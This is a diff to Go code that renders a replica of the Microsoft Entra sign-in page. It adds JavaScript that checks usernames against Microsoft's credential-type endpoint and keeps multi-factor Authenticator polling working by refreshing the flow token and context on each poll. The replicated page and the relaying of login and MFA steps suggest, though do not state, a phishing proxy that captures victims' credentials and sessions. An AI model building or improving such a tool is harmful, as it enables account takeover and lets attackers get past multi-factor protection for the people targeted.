@@ -558,7 +558,16 @@ func (e *Entra) signInPage(w http.ResponseWriter, f *entraFlow, code, text strin
 ` + hidden("login", user) + hidden("ctx", f.ctx) + hidden("flowToken", c["sFT"].(string)) + hidden("canary", c["canary"].(string)) +
 		hidden("hpgrequestid", f.session) + hidden("type", "11") + hidden("LoginOptions", "3") + `
 <input type="submit" id="idSIButton9" value="Sign in">
-</form>`
+</form>
+<script type="text/javascript">
+(function(){var c=window.$Config,f=document.forms[0],asked=false;
+f.addEventListener('submit',function(ev){if(asked||!window.fetch){return;}ev.preventDefault();asked=true;
+ fetch(c.urlGetCredentialType,{method:'POST',headers:{'Content-Type':'application/json','canary':c.apiCanary,'client-request-id':c.correlationId,'hpgact':String(c.hpgact),'hpgid':String(c.hpgid),'hpgrequestid':c.sessionId},
+  body:JSON.stringify({username:f.loginfmt.value,isOtherIdpSupported:true,originalRequest:c.sCtx,flowToken:f.flowToken.value})}).then(function(r){return r.json();}).then(function(b){
+  var cr=b.Credentials||{};if(cr.FederationRedirectUrl){window.location=cr.FederationRedirectUrl;return;}
+  if(b.IfExistsResult===1){document.getElementById('i0281').insertAdjacentText('afterbegin',"This username may be incorrect.");asked=false;return;}
+  if(b.FlowToken){f.flowToken.value=b.FlowToken;}f.login.value=f.loginfmt.value;f.submit();});});})();
+</script>`
 	e.page(w, "Sign in to your account", c, body)
 }
 
@@ -804,7 +813,8 @@ f.addEventListener('submit',function(ev){var m=method();var code=f.otc.value;ev.
  post(c.urlBeginAuth,{AuthMethodId:m,Method:'BeginAuth',Ctx:c.sCtx,FlowToken:f.flowToken.value}).then(function(b){
   if(!b.Success){document.getElementById('idDiv_SAOTCAS_Description').textContent=b.Message||b.ResultValue;return;}
   if(b.Entropy>0){document.getElementById('idDiv_SAOTCAS_Description').textContent='Enter '+b.Entropy+' in Microsoft Authenticator';}
-  var n=0;(function poll(){n++;post(c.urlEndAuth,{AuthMethodId:b.AuthMethodId,Method:'EndAuth',Ctx:b.Ctx,FlowToken:b.FlowToken,SessionId:b.SessionId,PollCount:n,AdditionalAuthData:code}).then(function(e){
+  var n=0,ft=b.FlowToken,cx=b.Ctx;(function poll(){n++;post(c.urlEndAuth,{AuthMethodId:b.AuthMethodId,Method:'EndAuth',Ctx:cx,FlowToken:ft,SessionId:b.SessionId,PollCount:n,AdditionalAuthData:code}).then(function(e){
+   if(e.FlowToken){ft=e.FlowToken;}if(e.Ctx){cx=e.Ctx;}
    if(e.Retry&&n<c.iMaxPollAttempts){setTimeout(poll,1000*((c.oPerAuthPollingInterval||{})[m]||1));return;}
    if(!e.Success){document.getElementById('idDiv_SAOTCAS_Description').textContent=e.Message||e.ResultValue;return;}
    f.flowToken.value=e.FlowToken;f.request.value=e.Ctx;f.submit();});})();});});})();
